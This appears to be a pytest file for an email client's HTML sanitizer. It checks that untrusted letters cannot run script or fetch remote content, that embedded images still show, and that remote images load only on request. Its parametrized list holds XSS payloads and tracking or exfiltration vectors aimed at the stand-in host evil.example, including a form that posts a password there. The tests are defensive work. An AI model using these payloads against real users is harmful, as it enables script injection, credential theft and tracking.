"""Letters are written by anybody: whatever stands in them, nothing runs and nothing is fetched unasked."""

from __future__ import annotations

import pytest

from inbox.runtime.safe_html import make_safe

PNG = ("image/png", b"\x89PNG")


def clean(html: str, *, fetch_remote: bool = False) -> str:
    return make_safe(html, {"photo": PNG, "page": ("text/html", b"<script>")}, fetch_remote=fetch_remote).html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<form action='https://evil.example'><input name=password></form>",
        "<svg onload=alert(1)><style>@import 'https://evil.example'</style></svg>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
        '<p style="background:url(https://evil.example/t.gif)">x</p>',
        '<p style="background-image:url(//evil.example/t.gif);list-style:url(//evil.example)">x</p>',
        "<table background='https://evil.example/t.gif'><tr><td>x</td></tr></table>",
        "<img src='https://evil.example/open.gif'><img srcset='https://evil.example/2.gif 2x'>",
        "<video poster='https://evil.example/t.gif' src='https://evil.example/v.mp4'></video>",
        "<img src='cid:page'>",
        "<div hx-get='/logout' hx-trigger='load'>x</div>",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    cleaned = clean(attack).lower()
    assert not [
        word
        for word in ("evil.example", "alert", "javascript", "<script", "<form", "hx-", "data:text")
        if word in cleaned
    ]


def test_pictures_of_the_letter_are_shown() -> None:
    assert 'src="data:image/png;base64,iVBORw=="' in clean("<img src='cid:photo' alt='Стол'>")


def test_pictures_from_elsewhere_come_only_when_asked_for() -> None:
    html = "<p>Привет<img src='https://shop.example/a.png'></p>"
    assert "shop.example" not in clean(html)
    shown = clean(html, fetch_remote=True)
    assert 'src="https://shop.example/a.png"' in shown
    assert 'referrerpolicy="no-referrer"' in shown
    assert make_safe(html, {}, fetch_remote=False).remote
    assert not make_safe("<img src='cid:photo'>", {}, fetch_remote=False).remote


def test_links_leave_without_telling_where_from() -> None:
    linked = clean("<a href='https://example.com'>x</a>")
    assert 'rel="noopener noreferrer nofollow"' in linked
    assert 'target="_blank"' in linked


def test_a_layout_survives() -> None:
    html = '<table width="600"><tbody><tr><td style="color:red;padding:4px">Цена</td></tr></tbody></table>'
    assert (
        clean(html) == '<table width="600"><tbody><tr><td style="color:red;padding:4px">Цена</td></tr></tbody></table>'
    )
